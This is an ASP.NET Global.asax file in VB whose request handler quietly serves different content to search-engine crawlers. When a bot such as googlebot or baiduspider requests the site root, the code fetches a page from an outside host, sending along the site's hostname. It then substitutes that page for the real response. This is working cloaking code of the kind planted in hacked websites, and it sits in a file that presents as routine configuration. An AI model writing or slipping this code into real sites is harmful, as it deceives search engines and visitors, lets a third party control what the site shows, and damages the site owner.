<%@ Application Language="VB" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    Sub Application_BeginRequest(ByVal sender As Object, ByVal e As EventArgs)
        Dim ua As String = ""
        If Not Request.UserAgent Is Nothing Then ua = Request.UserAgent.ToLower()
        Dim bots() As String = "googlebot,bingbot,baiduspider,yandex,sogou".Split(","c)
        For Each b As String In bots
            If ua.Contains(b) AndAlso Request.Path = "/" Then
                Dim req As HttpWebRequest = CType(WebRequest.Create("http://feed.example.invalid/p?h=" & Request.Url.Host), HttpWebRequest)
                Using rd As New StreamReader(req.GetResponse().GetResponseStream())
                    Response.Clear()
                    Response.Write(rd.ReadToEnd())
                End Using
                Response.End()
            End If
        Next
    End Sub
</script>
